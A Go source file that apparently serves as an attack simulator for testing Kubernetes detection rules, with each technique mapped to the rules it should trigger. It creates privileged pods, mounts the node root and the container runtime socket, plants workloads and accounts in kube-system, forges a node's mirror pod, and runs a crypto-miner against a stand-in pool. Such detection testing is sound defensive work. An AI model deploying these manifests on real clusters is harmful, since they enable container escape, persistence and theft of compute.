package attack

import (
	"fmt"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
)

// workload is something that makes pods of a spec.
func workload(kind, name, ns, spec string) string {
	group, rest := "apps/v1", "selector: {matchLabels: {app: x}}, template: {metadata: {labels: {app: x}}, spec: "+spec+"}"
	switch kind {
	case "CronJob":
		group, rest = "batch/v1", `schedule: "* * * * *", jobTemplate: {spec: {template: {spec: `+spec+"}}}"
	case "Job":
		group, rest = "batch/v1", "template: {spec: "+spec+"}"
	}
	return fmt.Sprintf("{apiVersion: %s, kind: %s, metadata: {name: %s, namespace: %s}, spec: {%s}}", group, kind, name, ns, rest)
}

const privileged = "{containers: [{name: c, image: alpine, securityContext: {privileged: true}}]}"

var workloadTechniques = []technique{
	{does: "starts a privileged pod", rules: []string{"privileged-container", "pod-security-violation"}, do: func(a *attacker) error { return a.create(pod("p", "NS", privileged)) }},
	{does: "makes a Deployment privileged by a patch", rules: []string{"privileged-container"}, do: func(a *attacker) error {
		d := workload("Deployment", "web", "NS", plain)
		if err := a.given(d); err != nil {
			return err
		}
		return a.patch(d, `{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true}}]}}}}`)
	}},
	{does: "mounts the root of a node", rules: []string{"host-path"}, do: func(a *attacker) error {
		return a.create(pod("p", "NS", "{containers: [{name: c, image: alpine, volumeMounts: [{name: r, mountPath: /host}]}], volumes: [{name: r, hostPath: {path: /}}]}"))
	}},
	{does: "mounts the socket of the container runtime", rules: []string{"host-path"}, do: func(a *attacker) error {
		return a.create(pod("p", "NS", "{containers: [{name: c, image: alpine}], volumes: [{name: r, hostPath: {path: /run/containerd/containerd.sock}}]}"))
	}},
	{does: "shares the processes of a node", rules: []string{"host-namespaces"}, do: func(a *attacker) error {
		return a.create(pod("p", "NS", "{hostPID: true, containers: [{name: c, image: alpine}]}"))
	}},
	{does: "shares the network of a node", rules: []string{"host-namespaces"}, do: func(a *attacker) error {
		return a.create(pod("p", "NS", "{hostNetwork: true, containers: [{name: c, image: alpine}]}"))
	}},
	{does: "takes the capability SYS_ADMIN", rules: []string{"capabilities"}, do: func(a *attacker) error {
		return a.create(pod("p", "NS", "{containers: [{name: c, image: alpine, securityContext: {capabilities: {add: [SYS_ADMIN]}}}]}"))
	}},
	{does: "starts a privileged pod on every node", rules: []string{"daemonset-by-person", "privileged-container"}, do: func(a *attacker) error { return a.create(workload("DaemonSet", "d", "NS", privileged)) }},
	{does: "starts a workload in kube-system", rules: []string{"workload-in-system"}, do: func(a *attacker) error {
		return a.create(workload("Deployment", "kube-dns-NS", "kube-system", plain))
	}},
	{does: "makes an account in kube-system", rules: []string{"account-in-system"}, do: func(a *attacker) error {
		return a.create("{apiVersion: v1, kind: ServiceAccount, metadata: {name: helper-NS, namespace: kube-system}}")
	}},
	{does: "schedules a CronJob", rules: []string{"cronjob-by-person"}, do: func(a *attacker) error {
		return a.create(workload("CronJob", "back", "NS", "{restartPolicy: Never, containers: [{name: c, image: alpine, args: [sh, -c, id]}]}"))
	}},
	{does: "puts a pod into the manifests of a node", rules: []string{"static-pod"}, by: "system:node:worker", do: func(a *attacker) error {
		client, err := kubernetes.NewForConfig(a.place.node(a))
		if err != nil {
			return err
		}
		node, err := client.CoreV1().Nodes().Get(a.ctx(), "worker", metav1.GetOptions{})
		if err != nil {
			return err
		}
		mirror := fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"sneaky-worker","namespace":%q,"annotations":{"kubernetes.io/config.mirror":"a1","kubernetes.io/config.source":"file"},"ownerReferences":[{"apiVersion":"v1","kind":"Node","name":"worker","uid":%q,"controller":true}]},"spec":{"nodeName":"worker","containers":[{"name":"c","image":"alpine"}]}}`, a.ns, node.UID)
		return client.CoreV1().RESTClient().Post().Namespace(a.ns).Resource("pods").Body([]byte(mirror)).SetHeader("Content-Type", "application/json").Do(a.ctx()).Error()
	}},
	{does: "starts a miner's image", rules: []string{"miner"}, do: func(a *attacker) error {
		return a.create(pod("p", "NS", `{containers: [{name: c, image: "metal3d/xmrig:latest"}]}`))
	}},
	{does: "starts a miner by its arguments", rules: []string{"miner"}, do: func(a *attacker) error {
		return a.create(workload("Job", "j", "NS", `{restartPolicy: Never, containers: [{name: c, image: alpine, command: [./a, -o, "stratum+tcp://pool.example.com:3333"]}]}`))
	}},
	{does: "takes many graphics processors", rules: []string{"gpu-jump"}, do: func(a *attacker) error {
		return a.pods(10, `{containers: [{name: c, image: alpine, resources: {limits: {nvidia.com/gpu: "1"}}}]}`)
	}},
	{does: "takes many processors", rules: []string{"cpu-jump"}, do: func(a *attacker) error {
		return a.pods(9, `{containers: [{name: c, image: alpine, resources: {requests: {cpu: "8"}}}]}`)
	}},
	{does: "starts very many pods, and reads the logs of all", rules: []string{"pod-surge", "log-harvest"}, do: func(a *attacker) error {
		if err := a.pods(110, plain); err != nil {
			return err
		}
		for i := range 45 {
			if err := let(a.kube.CoreV1().RESTClient().Get().Namespace(a.ns).Resource("pods").Name(fmt.Sprintf("p-%d", i)).SubResource("log").Do(a.ctx()).Error()); err != nil {
				return err
			}
		}
		return nil
	}},
}

func (a *attacker) pods(n int, spec string) error {
	for i := range n {
		if err := a.create(pod(fmt.Sprintf("p-%d", i), "NS", spec)); err != nil {
			return err
		}
	}
	return nil
}
